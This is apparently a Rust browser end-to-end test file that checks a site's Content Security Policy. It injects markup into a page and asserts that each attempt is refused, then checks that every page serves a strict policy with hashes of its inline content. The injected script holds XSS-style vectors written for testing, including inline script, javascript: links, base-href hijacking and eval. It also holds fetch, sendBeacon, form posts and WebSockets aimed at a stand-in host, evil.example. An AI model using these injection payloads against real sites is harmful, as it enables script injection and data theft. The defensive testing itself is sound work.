//! What the policy of every page forbids, tried as a text would that got into the page as markup.

use qunban::route::Page;
use qunban_e2e::{Browser, Site};
use serde_json::{Value, json};
use thirtyfour::error::WebDriverResult;

/// Tries what a text that got into the page as markup would try, and says what was refused and what ran.
const BREAK: &str = "
    const done = arguments[arguments.length - 1];
    const refused = new Set();
    addEventListener('securitypolicyviolation', (event) => refused.add(event.effectiveDirective));
    const put = (name, attributes, text) => {
        const it = document.createElement(name);
        for (const [key, value] of Object.entries(attributes)) it.setAttribute(key, value);
        if (text) it.textContent = text;
        document.body.append(it);
        return it;
    };
    const tried = {};
    const attempt = (name, it) => { try { it(); tried[name] = 'went through'; } catch (error) { tried[name] = error.name; } };
    put('script', {}, 'window.__broken = \"an inline script\"');
    put('button', { onclick: 'window.__broken = \"an attribute\"' }).click();
    put('a', { href: 'javascript:window.__broken=\"a link\"' }).click();
    put('script', { src: 'https://evil.example/x.js' });
    put('script', { src: 'data:text/javascript,window.__broken=\"data\"' });
    put('img', { src: 'https://evil.example/x.png' });
    put('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' });
    put('style', {}, 'body { display: none }');
    put('div', { style: 'color: red' });
    put('iframe', { src: 'https://evil.example/' });
    put('object', { data: 'https://evil.example/' });
    put('video', { src: 'https://evil.example/x.mp4' });
    document.querySelector('base').href = 'https://evil.example/';
    put('form', { action: 'https://evil.example/', method: 'post' }).submit();
    attempt('worker', () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))));
    attempt('socket', () => new WebSocket('wss://evil.example/'));
    // A driver's script may evaluate texts while it runs itself; what comes later is the page's.
    const later = new Promise((go) => setTimeout(() => {
        attempt('eval', () => eval('window.__broken = \"eval\"'));
        attempt('function', () => new Function('window.__broken = \"a function\"')());
        attempt('timeout', () => setTimeout('window.__broken = \"a timeout\"', 0));
        go();
    }, 0));
    const asked = fetch('http://evil.example/').then(() => 'went through', (error) => error.name);
    navigator.sendBeacon?.('http://evil.example/', 'x');
    Promise.all([asked, later]).then(([fetched]) => setTimeout(() => done({
        refused: [...refused].sort(), tried, fetched, broken: window.__broken ?? null, shown: getComputedStyle(document.body).display,
        base: document.baseURI.startsWith(location.origin),
    }), 500));";

#[tokio::test]
async fn what_the_security_policy_forbids_is_refused() -> WebDriverResult<()> {
    let (site, browser) = (Site::start(), Browser::phone().await?);
    browser.visit(&site.page(Page::Home)).await?;
    let seen = browser.execute_async(BREAK, Vec::new()).await?.json().clone();
    assert_eq!(seen["broken"], Value::Null, "{seen}");
    assert_eq!(seen["fetched"], json!("TypeError"), "{seen}");
    assert_eq!(seen["base"], json!(true), "{seen}");
    assert_ne!(seen["shown"], json!("none"), "{seen}");
    assert_eq!(seen["tried"]["eval"], json!("EvalError"), "{seen}");
    assert_eq!(seen["tried"]["function"], json!("EvalError"), "{seen}");
    let refused = seen["refused"].as_array().expect("a list").clone();
    for directive in [
        "base-uri",
        "connect-src",
        "form-action",
        "frame-src",
        "img-src",
        "media-src",
        "object-src",
        "script-src",
        "script-src-attr",
        "script-src-elem",
        "style-src-attr",
        "style-src-elem",
        "worker-src",
    ] {
        assert!(refused.contains(&json!(directive)), "nothing was refused by {directive}: {seen}");
    }
    Ok(())
}

/// The policy of a page as it is served, and the hashes of what stands in it as text.
const POLICY: &str = "
    const done = arguments[arguments.length - 1];
    (async () => {
        const page = new DOMParser().parseFromString(await (await fetch(arguments[0])).text(), 'text/html');
        const first = page.head.querySelector('meta[http-equiv]');
        const hash = async (text) => {
            const digest = new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(text)));
            return \"'sha256-\" + btoa(String.fromCharCode(...digest)) + \"'\";
        };
        const inline = [...page.querySelectorAll('script:not([src]), style')];
        const before = [...page.querySelectorAll('script, style, link, base')].every((it) => first.compareDocumentPosition(it) & Node.DOCUMENT_POSITION_FOLLOWING);
        done({ policy: first.content, hashes: await Promise.all(inline.map((it) => hash(it.textContent))), before });
    })();";

#[tokio::test]
async fn every_page_has_the_policy_and_the_hash_of_what_stands_in_it() -> WebDriverResult<()> {
    let (site, browser) = (Site::start(), Browser::phone().await?);
    browser.visit(&site.page(Page::Home)).await?;
    let pages = Page::ALL.iter().map(|page| site.page(*page)).chain([site.url("404.html")]);
    for address in pages {
        let seen = browser.execute_async(POLICY, vec![json!(address)]).await?.json().clone();
        let policy = seen["policy"].as_str().unwrap_or_default();
        assert!(policy.starts_with("default-src 'none'; script-src 'self' 'wasm-unsafe-eval'"), "{address}: {policy}");
        assert!(!policy.contains("unsafe-inline") && !policy.contains("'unsafe-eval'"), "{address}: {policy}");
        // A backend is wherever an operator has one; nothing else comes from elsewhere.
        let (connect, others): (Vec<&str>, Vec<&str>) =
            policy.split("; ").partition(|directive| directive.starts_with("connect-src "));
        assert_eq!(connect, ["connect-src 'self' https: http://127.0.0.1:* http://localhost:*"], "{address}");
        let others = others.join("; ");
        assert!(!others.contains("http") && !others.contains('*'), "{address}: {policy}");
        assert_eq!(seen["before"], json!(true), "{address}: something stands before the policy");
        let hashes = seen["hashes"].as_array().expect("a list");
        for hash in hashes {
            assert!(policy.contains(hash.as_str().unwrap_or_default()), "{address} lacks {hash}: {policy}");
        }
        assert_eq!(policy.matches("'sha256-").count(), hashes.len(), "{address}: {policy}");
    }
    Ok(())
}
